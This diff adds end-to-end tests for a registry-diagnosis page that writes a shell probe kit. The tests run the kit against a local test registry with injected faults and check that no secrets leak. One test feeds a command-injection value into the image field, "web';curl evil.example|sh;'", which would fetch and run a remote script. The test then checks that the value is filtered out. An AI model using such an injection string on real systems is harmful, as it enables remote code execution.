@@ -1,0 +1,89 @@
+// The probe kit, end to end: the page writes the sh kit for the registry typed, a real sh runs it
+// against the local registry (docker-registry behind the test token server, one front per
+// fault), and what it printed, pasted back into the page, becomes probe steps and a verdict.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { useBrowser, openPage, paste, verdict, artifacts } from './harness.mjs';
+import { FRONT, STOPPED } from './ports.mjs';
+
+const shared = useBrowser();
+
+/** The kit the page shows for a registry and an image, run by sh with these variables. */
+async function runKit(page, registry, image, env = {}) {
+  await page.fill('[data-testid=registry-input]', registry);
+  await page.fill('[data-testid=repository-input]', image);
+  await page.click('[data-testid=kit] summary');
+  const script = await page.$eval('[data-testid=kit-sh]', (e) => e.textContent);
+  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'kit-')), 'acr-doctor-kit.sh');
+  fs.writeFileSync(file, script);
+  const out = execFileSync('sh', [file], {
+    env: { PATH: process.env.PATH, HOME: os.tmpdir(), ACR_KIT_TIMEOUT: '5', ...env },
+    timeout: 60_000,
+    encoding: 'utf8',
+  });
+  return out;
+}
+
+async function kitSteps(page) {
+  await page.waitForSelector('[data-testid=kit-result]');
+  return Object.fromEntries(await page.$$eval('[data-testid=kit-result] [data-testid=probe]', (ps) => ps.map((p) => [
+    p.dataset.probe, p.dataset.code ? `${p.dataset.status} ${p.dataset.code}` : p.dataset.status,
+  ])));
+}
+
+const ADMIN = { ACR_USERNAME: 'testadmin', ACR_PASSWORD: 'testpassword' };
+
+test('healthy: the kit follows the image to its blob, and the page reads it back', async () => {
+  const { page, context, errors } = await openPage(shared.browser, shared.base);
+  const out = await runKit(page, `http://127.0.0.1:${FRONT.none}`, 'hello:v1', ADMIN);
+  assert.match(out, /^acr-doctor-kit 1 http:\/\/127\.0\.0\.1:15001$/m);
+  assert.match(out, /^acr-doctor-kit end$/m);
+  assert.ok(!out.includes('testpassword'), 'no password in the transcript');
+  assert.ok(!/eyJ[\w-]{20,}/.test(out), 'no token in the transcript');
+  await paste(page, out);
+  assert.deepEqual(await kitSteps(page), {
+    reachability: 'ok', challenge: 'ok', 'access-token': 'ok', manifest: 'ok', 'data-endpoint': 'ok',
+  });
+  assert.equal(await verdict(page), 'healthy');
+  await page.locator('[data-testid=kit-result]').screenshot({ path: path.join(artifacts, 'kit-healthy.png') });
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('faults: the kit finds each, the page names it with its code', async () => {
+  for (const [name, registry, image, env, step, expected] of [
+    ['firewall', `http://127.0.0.1:${FRONT.deny}`, 'hello:v1', ADMIN, 'challenge', 'error CONNECTIVITY_FORBIDDEN_ERROR'],
+    ['no such tag', `http://127.0.0.1:${FRONT.none}`, 'hello:nope', ADMIN, 'manifest', 'error MANIFEST_UNKNOWN'],
+    ['wrong password', `http://127.0.0.1:${FRONT.none}`, 'hello:v1', { ACR_USERNAME: 'testadmin', ACR_PASSWORD: 'wrong' }, 'access-token', 'error CONNECTIVITY_ACCESS_TOKEN_ERROR'],
+    ['registry stopped', `http://127.0.0.1:${STOPPED}`, '', {}, 'reachability', 'error CONNECTIVITY_CHALLENGE_ERROR'],
+  ]) {
+    const { page, context } = await openPage(shared.browser, shared.base);
+    const out = await runKit(page, registry, image, env);
+    await paste(page, out);
+    const steps = await kitSteps(page);
+    assert.equal(steps[step], expected, `${name}: ${JSON.stringify(steps)}\n${out}`);
+    assert.equal(await verdict(page), 'errors', name);
+    if (name === 'firewall') assert.match(out, /client-ip=127\.0\.0\.1/);
+    await page.locator('[data-testid=kit-result]').screenshot({ path: path.join(artifacts, `kit-${name.replace(/ /g, '-')}.png`) });
+    await context.close();
+  }
+});
+
+test('the kit for an Azure registry, and what a hostile image field cannot do', async () => {
+  const { page, context } = await openPage(shared.browser, shared.base);
+  await page.fill('[data-testid=registry-input]', 'contoso');
+  await page.fill('[data-testid=repository-input]', "web';curl evil.example|sh;'");
+  await page.click('[data-testid=kit] summary');
+  const script = await page.$eval('[data-testid=kit-sh]', (e) => e.textContent);
+  assert.match(script, /^ORIGIN='https:\/\/contoso\.azurecr\.io'$/m);
+  assert.match(script, /^REPO=''$/m, 'an image that is not name:tag is not put in');
+  assert.ok(!script.includes('evil'));
+  assert.match(await page.locator('[data-testid=kit-kubectl]').innerText(), /kubectl run acr-doctor-kit --rm -i --restart=Never --image=mcr\.microsoft\.com\/azurelinux\/base\/core:3\.0/);
+  const href = await page.getAttribute('[data-testid=kit-download]', 'href');
+  assert.equal(decodeURIComponent(href.split(',')[1]), script);
+  await context.close();
+});
